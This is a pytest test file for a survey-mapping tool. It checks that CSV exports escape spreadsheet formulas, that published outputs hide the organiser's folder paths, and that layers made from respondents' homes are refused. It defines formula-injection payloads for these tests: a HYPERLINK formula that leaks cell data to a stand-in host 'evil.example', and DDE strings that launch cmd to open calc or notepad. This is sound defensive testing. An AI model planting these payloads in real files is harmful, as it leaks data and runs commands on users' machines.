"""Security review (issue 11): CSV cells a spreadsheet would run, published files that
name the organiser's folders, and layers of respondents' homes given as a web map
background or a service layer."""

from __future__ import annotations

import csv
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from unit_helpers import cli_in_process

from qet_geo.errors import InputError
from qet_geo.i18n import set_language
from qet_geo.io import write_table

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Tilleuls")'
DDE = "-2+3+cmd|' /C calc'!A0"
PLUS = "+cmd|' /C notepad'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, PLUS, AT, "\t=1+1", "\r=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def qet_geo(*args, lang="en", process=False):
    """``qet-geo --lang LANG ARGS``: in this process (commands refused early), or in a
    process of its own (``process=True``: the whole job)."""
    if not process:
        return cli_in_process("--lang", lang, *args, cwd=ROOT)
    return subprocess.run(
        [sys.executable, "-m", "qet_geo.cli", "--lang", lang, *map(str, args)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )


def csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- CSV formula injection
def test_write_table_neutralises_text_cells_and_keeps_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "name": pd.array([*PAYLOADS, "-2.5", "'quoted", "plain", None], dtype="string"),
            "mixed": [*PAYLOADS, -2.5, "'quoted", "plain", None],
            "value": [-2.5, -1.0, 0.0, 1.0, 2.0, 3.0, -7.25, 4.0, 5.0, 6.0],
            "category": pd.Categorical(["=1"] * 5 + ["ok"] * 5),
            "=header": range(10),
        }
    )
    target = write_table(table, tmp_path / "t.csv")
    rows = csv_cells(target)
    header, body = rows[0], rows[1:]
    assert header == ["name", "mixed", "value", "category", "'=header"]
    for column in ("name", "mixed"):
        cells = [row[header.index(column)] for row in body]
        assert cells[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS], column
        # a text that is just a number is not a formula; a leading quote is doubled
        assert cells[len(PAYLOADS) :] == ["-2.5", "''quoted", "plain", ""], column
    # numbers stay numbers, negative ones included
    assert [row[2] for row in body] == ["-2.5", "-1.0", "0.0", "1.0", "2.0", "3.0", "-7.25"] + [
        "4.0",
        "5.0",
        "6.0",
    ]
    assert [row[3] for row in body] == ["'=1"] * 5 + ["ok"] * 5
    # the documented way back: drop the first character of text cells starting with '
    back = pd.read_csv(target, encoding="utf-8-sig", dtype={"name": str})
    restored = back["name"].map(lambda v: v[1:] if isinstance(v, str) and v[:1] == "'" else v)
    assert list(restored[: len(PAYLOADS) + 2]) == [*PAYLOADS, "-2.5", "'quoted"]
    assert back["value"].tolist() == table["value"].tolist()


def test_spreadsheet_safe_leaves_the_caller_frame_alone():
    from qet_geo.io import spreadsheet_safe

    table = pd.DataFrame({"a": ["=1", "x"]})
    assert spreadsheet_safe(table)["a"].tolist() == ["'=1", "x"]
    assert table["a"].tolist() == ["=1", "x"]


def test_a_respondents_csv_reads_back_as_it_was(tmp_path):
    """qet-geo reads its own CSVs back with the text as it was (the quote removed)."""
    from qet_geo.survey import write_respondents
    from qet_geo.survey.readers import read_respondents_file

    respondents = pd.DataFrame(
        {
            "respondent_id": pd.array(["=1", "-2", "'3", "4"], dtype="string"),
            "source_row": [2, 3, 4, 5],
            "meat_frequency": pd.array([1, 2, 3, None], dtype="Int8"),
            "comment": [HYPERLINK, DDE, "ok", None],
            "weight": [1.0, -1.0, 1.0, 1.0],
        }
    )
    path = write_respondents(respondents, tmp_path / "r.csv")
    assert csv_cells(path)[1][0] == "'=1"
    back = read_respondents_file(path)
    assert back["respondent_id"].tolist() == ["=1", "-2", "'3", "4"]
    assert back["comment"].tolist()[:3] == [HYPERLINK, DDE, "ok"]
    assert back["weight"].tolist() == [1.0, -1.0, 1.0, 1.0]


# ------------------------------------------------- the whole job on a copy of the sample
@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The sample job from a user's folder ("Mes Documents/Enquête Tilleuls"), with
    formulas in an area name, a profile name and a rejected row, into another folder."""
    home = tmp_path_factory.mktemp("home")
    inputs = home / "Mes Documents" / "Enquête Tilleuls"
    shutil.copytree(SAMPLE, inputs)
    import geopandas as gpd
    import pyogrio

    iris = gpd.read_file(inputs / "quartier.gpkg", layer="iris")
    iris.loc[0, "nom_iris"], iris.loc[1, "nom_iris"] = HYPERLINK, AT
    pyogrio.write_dataframe(iris, inputs / "quartier.gpkg", layer="iris", driver="GPKG",
                            layer_options={"OVERWRITE": "YES"})  # fmt: skip
    survey = pd.read_csv(inputs / "survey_su.tsv", sep="\t", dtype=str, keep_default_na=False)
    resident = "Habitez-vous dans le quartier ?"
    first = survey.index[survey[resident] == "Non"][0]
    survey.loc[first, "Identifiant"] = HYPERLINK
    survey.loc[first, "Quelle est votre situation ?"] = DDE
    survey.to_csv(inputs / "survey_su.tsv", sep="\t", index=False)
    config = (inputs / "qet-geo.toml").read_text(encoding="utf-8")
    config = config.replace(
        '# names = { 1 = "Transports en commun", 2 = "Voiture au quotidien" }',
        "names = { 1 = \"+cmd|' /C notepad'!A0\" }",
    )
    assert PLUS in config
    (inputs / "qet-geo.toml").write_text(config, encoding="utf-8")
    out = home / "Dossier-Orga" / "forum" / "sorties"
    done = qet_geo("run", inputs / "qet-geo.toml", "-o", out, process=True)
    assert done.returncode == 0, done.stderr
    return inputs, out


def test_every_csv_of_the_job_is_safe_in_a_spreadsheet(hostile):
    _, out = hostile
    files = sorted(out.glob("*.csv"))
    assert {p.name for p in files} >= {
        "rejects.csv",
        "profiles.csv",
        "areas.csv",
        "areas_profiles.csv",
        "areas_representativeness.csv",
        "ptal_areas.csv",
        "proximity_areas.csv",
        "compare_areas.csv",
        "compare_classes.csv",
    }
    for path in files:
        for number, row in enumerate(csv_cells(path), start=1):
            for cell in row:
                assert not (cell.startswith(FORMULA_START) and not is_number(cell)), (
                    path.name,
                    number,
                    cell,
                )
    cells = {p.name: {c for row in csv_cells(p) for c in row} for p in files}
    assert "'" + HYPERLINK in cells["rejects.csv"] and "'" + DDE in cells["rejects.csv"]
    assert "'" + HYPERLINK in cells["areas.csv"] and "'" + AT in cells["areas.csv"]
    assert "'" + PLUS in cells["profiles.csv"] and "'" + PLUS in cells["areas_profiles.csv"]
    assert "'" + HYPERLINK in cells["ptal_areas.csv"]
    assert "'" + HYPERLINK in cells["proximity_areas.csv"]


# ------------------------------------------------------------ published file names only
def published_text(out: Path) -> dict[str, str]:
    """Every output as text: GeoPackages dumped (every table, metadata included), the
    QGIS project unzipped, PDFs through pdftotext, the rest as bytes."""
    texts = {}
    for path in sorted(out.iterdir()):
        if path.suffix == ".gpkg":
            with sqlite3.connect(path) as db:
                texts[path.name] = "\n".join(db.iterdump())
        elif path.suffix == ".qgz":
            with zipfile.ZipFile(path) as archive:
                texts[path.name] = "\n".join(
                    archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                )
        elif path.suffix == ".pdf":
            text = subprocess.run(
                ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
            ).stdout
            texts[path.name] = text + path.read_bytes().decode("latin-1")
        else:
            texts[path.name] = path.read_bytes().decode("utf-8", "replace")
    return texts


def test_no_output_names_a_folder_of_the_organiser(hostile):
    inputs, out = hostile
    texts = published_text(out)
    assert len(texts) >= 15
    for folder in (inputs, out, inputs.parent, out.parent.parent, ROOT):
        for variant in {str(folder), folder.as_posix(), str(folder.resolve())}:
            leaks = [name for name, text in texts.items() if variant in text]
            assert not leaks, (variant, leaks)
    for word in ("Mes Documents", "Enquête Tilleuls", "Dossier-Orga"):
        assert not [n for n, t in texts.items() if word in t], word
    # the census is still named, by its file name
    with sqlite3.connect(out / "areas.gpkg") as db:
        census = db.execute("SELECT value FROM study_summary WHERE indicator = 'census'").fetchone()
    assert census == ("base-ic-evol-struct-pop-quartier.csv",)
    # the project keeps its relative paths
    assert "./areas.gpkg|layername=area_indicators" in texts["projet.qgz"]


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("/home/moi/Documents/enquête/base.csv", "base.csv"),
        ("C:\\Users\\moi\\Bureau\\quartier.gpkg", "quartier.gpkg"),
        ("/home/moi/quartier.gpkg [iris]", "quartier.gpkg [iris]"),
        ("/home/moi/quartier.gpkg:iris", "quartier.gpkg:iris"),
        ("gtfs/", "gtfs"),
        ("base.csv", "base.csv"),
    ],
)
def test_public_name_keeps_the_file_name_only(source, name):
    from qet_geo.io import public_name

    assert public_name(source) == name


# ------------------------------------------------------ layers of respondents refused
def buffered_homes(respondents_gpkg: Path, target: Path, metres: float) -> Path:
    """The respondents' homes buffered in a projected CRS, every field dropped: what a
    user makes in QGIS in two clicks."""
    import geopandas as gpd

    homes = gpd.read_file(respondents_gpkg)
    buffers = gpd.GeoDataFrame(
        {"n": range(len(homes))}, geometry=homes.to_crs("EPSG:2154").buffer(metres), crs=2154
    )[["geometry"]]
    buffers.to_file(target, layer="maisons", driver="GPKG")
    return target


@pytest.fixture(scope="module")
def homes(hostile, tmp_path_factory):
    inputs, out = hostile
    folder = tmp_path_factory.mktemp("calques")
    respondents = folder / "respondents_copy.gpkg"
    shutil.copyfile(out / "respondents.gpkg", respondents)
    return {
        "respondents": respondents,
        "small": buffered_homes(respondents, folder / "maisons_3m.gpkg", 3.0),
        "large": buffered_homes(respondents, folder / "maisons_15m.gpkg", 15.0),
        "inputs": inputs,
        "out": out,
    }


def test_the_respondents_file_carries_the_marker(homes):
    from qet_geo.privacy import has_marker

    assert has_marker(homes["respondents"])
    assert has_marker(homes["respondents"], "respondents")
    assert not has_marker(SAMPLE / "quartier.gpkg")


def run_with(inputs: Path, tmp: Path, *, service=None, background=None, lang="en"):
    config = (inputs / "qet-geo.toml").read_text(encoding="utf-8")
    # no stability resampling: the refusals do not depend on it
    config = config.replace("bootstrap = 100 ", "bootstrap = 0 ").replace(
        "bootstrap = 200", "bootstrap = 0"
    )
    assert config.count("bootstrap = 0") == 2
    if service:
        config = config.replace(
            'services = { alimentation = "quartier.gpkg:commerces_alimentaires",',
            f'services = {{ alimentation = "{service}",',
        )
    if background:
        config = config.replace(
            'background = ["quartier.gpkg:perimetre"]', f'background = ["{background}"]'
        )
    target = inputs / f"run_{tmp.name}.toml"
    target.write_text(config, encoding="utf-8")
    return qet_geo("run", target, "-o", tmp / "out", lang=lang)


def test_the_job_refuses_the_respondents_file_as_a_service(homes, tmp_path):
    done = run_with(homes["inputs"], tmp_path, service=homes["respondents"].as_posix())
    assert done.returncode != 0
    assert "[proximity] services.alimentation" in done.stderr
    assert "refused as a service layer: it is a respondents file written by qet-geo" in (
        done.stderr
    )
    assert "never one made from the respondents' homes" in done.stderr
    assert not (tmp_path / "out").exists(), "refused before anything is written"


def test_the_job_refuses_buffered_homes_as_a_service(homes, tmp_path):
    done = run_with(homes["inputs"], tmp_path, service=homes["large"].as_posix(), lang="fr")
    assert done.returncode != 0
    assert "maisons_15m.gpkg" in done.stderr
    assert "refusée comme couche de services" in done.stderr
    assert "593 de ses 593 entités sont à moins de 5 m du domicile d'un répondant" in done.stderr
    assert not (tmp_path / "out" / "proximity.gpkg").exists()


def test_the_job_refuses_buffered_homes_as_a_background(homes, tmp_path):
    # 3 m buffers are point-like: refused by the configuration check itself
    done = run_with(homes["inputs"], tmp_path, background=homes["small"].as_posix())
    assert done.returncode != 0
    assert "refused as a web map background" in done.stderr
    assert "polygons under 100 m²" in done.stderr
    # 15 m buffers are not point-like: refused once the homes are known
    done = run_with(homes["inputs"], tmp_path, background=homes["large"].as_posix())
    assert done.returncode != 0
    assert "refused as a web map background: 593 of its 593 features lie within 5 m" in (
        done.stderr
    )
    assert not (tmp_path / "out" / "carte.html").exists()


def test_the_command_line_refuses_respondent_layers(homes, tmp_path):
    perimeter = (SAMPLE / "quartier.gpkg").as_posix() + ":perimetre"
    done = qet_geo("constraints", "proximity", "--areas", SAMPLE / "quartier.gpkg",
                   "--areas-layer", "iris", "--service", f"homes={homes['respondents']}",
                   "-o", tmp_path / "p.gpkg")  # fmt: skip
    assert done.returncode != 0 and "refused as a service layer" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    done = qet_geo("constraints", "proximity", "--areas", SAMPLE / "quartier.gpkg",
                   "--areas-layer", "iris", "--service", f"homes={homes['large']}",
                   "--respondents", homes["respondents"], "-o", tmp_path / "p.gpkg")  # fmt: skip
    assert done.returncode != 0 and "lie within 5 m of a respondent's home" in done.stderr
    assert not (tmp_path / "p.gpkg").exists()
    area_map = homes["out"] / "areas.gpkg"
    done = qet_geo("export", "webmap", area_map, "--background", homes["small"],
                   "-o", tmp_path / "c.html")  # fmt: skip
    assert done.returncode != 0 and "refused as a web map background" in done.stderr
    done = qet_geo("export", "webmap", area_map, "--background", homes["large"],
                   "--respondents", homes["respondents"], "-o", tmp_path / "c.html")  # fmt: skip
    assert done.returncode != 0 and "lie within 5 m of a respondent's home" in done.stderr
    assert not (tmp_path / "c.html").exists()
    # the ordinary layers of the place pass, with the respondents known
    done = qet_geo("export", "webmap", area_map, "--background", perimeter,
                   "--respondents", homes["respondents"], "-o", tmp_path / "c.html")  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_layers_of_the_place_pass_with_the_respondents_known(homes):
    from qet_geo.privacy import check_not_respondents

    for layer in ("commerces_alimentaires", "marches", "reparation_occasion"):
        check_not_respondents(
            SAMPLE / "quartier.gpkg", "service", layer=layer, respondents=homes["respondents"]
        )
    for layer in ("perimetre", "iris"):
        check_not_respondents(
            SAMPLE / "quartier.gpkg", "background", layer=layer, respondents=homes["respondents"]
        )


def test_respondent_fields_are_refused_in_a_frame_from_anywhere():
    """A layer with the answer fields (say a QGIS copy of the respondents, geometry
    moved, id dropped) is refused; the message is in French too."""
    import shapely

    from qet_geo.privacy import check_not_respondents

    frame = pd.DataFrame(
        {
            "meat_frequency": [1, 2],
            "transportation_mode": [2, 3],
            "air_travel_frequency": [1, 1],
            "geometry": [shapely.box(0, 0, 500, 500), shapely.box(600, 0, 1100, 500)],
        }
    )
    frame.attrs["crs"] = "EPSG:2154"
    with pytest.raises(InputError) as caught:
        check_not_respondents(frame, "background", name="copie.gpkg")
    assert "copie.gpkg: refused as a web map background: it has respondents' answer fields" in (
        str(caught.value)
    )
    set_language("fr")
    with pytest.raises(InputError) as caught:
        check_not_respondents(frame, "service", name="copie.gpkg")
    assert "refusée comme couche de services : elle a des champs de réponses" in str(caught.value)
    assert "jamais une couche faite des domiciles des répondants" in str(caught.value)
